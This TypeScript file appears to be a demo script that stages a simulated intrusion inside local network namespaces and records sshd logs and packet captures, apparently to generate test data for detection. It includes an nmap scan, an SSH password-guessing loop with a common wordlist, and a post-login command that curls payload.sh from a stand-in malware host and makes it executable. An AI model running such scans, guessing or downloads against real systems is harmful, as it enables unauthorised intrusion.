import { writeFileSync } from 'node:fs';
import { setTimeout as delay } from 'node:timers/promises';
import { recordingFile } from '../src/demo/recording.ts';
import {
  adminAccount,
  buildScene,
  sceneAddresses,
  sceneHost,
  sceneProblems,
  weakAccount,
} from '../src/demo/scene.ts';

/**
 * Plays an attack with real tools against a real sshd in network namespaces, and writes down what the sshd and a
 * packet capture on the server saw. Needs root, openssh, nmap, tcpdump and curl.
 */
const problems = sceneProblems(['nmap', 'tcpdump', 'curl']);
if (problems.length > 0) {
  process.stderr.write(`The recording cannot be made: ${problems.join('; ')}.\n`);
  process.exit(1);
}

const { attacker, admin, colleague, server, malwareHost } = sceneAddresses;
const records: { at_ms: number; format: string; line: string }[] = [];
const startedAt = performance.now();
const write = (format: string, line: string): void => {
  records.push({ at_ms: Math.round(performance.now() - startedAt), format, line });
};
const say = (message: string): void => {
  process.stdout.write(`${Math.round(performance.now() - startedAt)} ms  ${message}\n`);
};

const scene = await buildScene((line) => write('syslog', `{time} ${sceneHost} sshd: ${line}`));
try {
  const httpServer = `require('node:http').createServer((_, answer) => answer.end('#!/bin/sh\\n'))
    .listen(8080, process.argv[1], () => console.log('listening'));`;
  const isUp = Promise.withResolvers<void>();
  scene.watch('outside', process.execPath, ['-e', httpServer, malwareHost], () => isUp.resolve());
  await isUp.promise;
  const isCapturing = Promise.withResolvers<void>();
  const onlySyn = 'tcp[tcpflags] & (tcp-syn|tcp-ack) == tcp-syn';
  scene.watch('server', 'tcpdump', ['-Z', 'root', '-i', 'wire', '-n', '-l', '-q', '-t', onlySyn], (line) => {
    if (line.startsWith('listening on')) isCapturing.resolve();
    const packet = /^IP (\S+)\.(\d+) > (\S+)\.(\d+): tcp/.exec(line);
    if (packet === null) return;
    const [, source, sourcePort, destination, port] = packet;
    const event = {
      event_id: `tcpdump-{run}-${records.length}`,
      timestamp: '{time}',
      source: 'tcpdump',
      event_type: 'network_flow',
      source_ip: source,
      destination_ip: destination,
      port: Number(port),
      protocol: 'tcp',
      payload: { line, source_port: Number(sourcePort) },
      context: { host: sceneHost, category: 'network' },
    };
    write('native', JSON.stringify(event));
  });
  await isCapturing.promise;

  say('the administrator logs in');
  await scene.login(adminAccount.name, adminAccount.password, admin, 'uptime');
  say('a colleague mistypes twice, then logs in');
  await scene.login(adminAccount.name, 'correct horse', colleague, 'true');
  await delay(700);
  await scene.login(adminAccount.name, 'correct horse batery', colleague, 'true');
  await delay(900);
  await scene.login(adminAccount.name, adminAccount.password, colleague, 'true');

  say('the attacker scans');
  await scene.outside('nmap', [
    '-n',
    '-Pn',
    '-sT',
    '-T4',
    '-p',
    '21-25,80,110,143,443,3306,5432,6379,8080',
    server,
  ]);
  say('the attacker guesses');
  const words = ['123456', 'password', 'root', 'toor', 'admin', 'letmein', 'qwerty'];
  for (const user of ['root', 'admin', 'oracle', weakAccount.name]) {
    for (const word of words.slice(0, user === weakAccount.name ? 3 : 7)) {
      await scene.login(user, word, attacker, 'true');
    }
    if (user === 'oracle') await scene.login(adminAccount.name, adminAccount.password, admin, 'df -h');
  }
  say('the attacker gets in and downloads');
  const download = `id; uname -a; curl -s -o payload.sh http://${malwareHost}:8080/payload.sh; chmod +x payload.sh; ls -l`;
  const entry = await scene.login(weakAccount.name, weakAccount.password, attacker, download);
  if (!entry.isIn) throw new Error(`the attacker should have got in: ${entry.stderr}`);
  await delay(500);
} finally {
  scene.destroy();
}
writeFileSync(recordingFile, `${records.map((record) => JSON.stringify(record)).join('\n')}\n`);
say(`${records.length} records written`);
process.exit(0);
